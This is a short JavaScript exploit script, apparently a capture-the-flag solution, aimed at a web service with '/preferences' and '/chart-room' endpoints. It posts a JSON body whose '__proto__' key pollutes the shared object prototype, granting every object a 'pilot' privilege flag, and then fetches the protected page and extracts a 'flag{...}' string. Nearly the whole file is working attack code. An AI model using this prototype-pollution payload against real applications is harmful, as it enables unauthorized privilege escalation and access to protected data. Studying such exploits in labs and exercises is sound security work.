// @ts-check

const marina = `http://${process.argv[2] ?? '127.0.0.1:8080'}`
// `theme.__proto__` is what all objects inherit from. Once that is a pilot, everybody is.
await fetch(`${marina}/preferences`, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: '{"theme":{"__proto__":{"pilot":true}}}',
})
const answer = await (await fetch(`${marina}/chart-room`)).text()
console.log(/flag\{[^}]+\}/.exec(answer)?.[0])
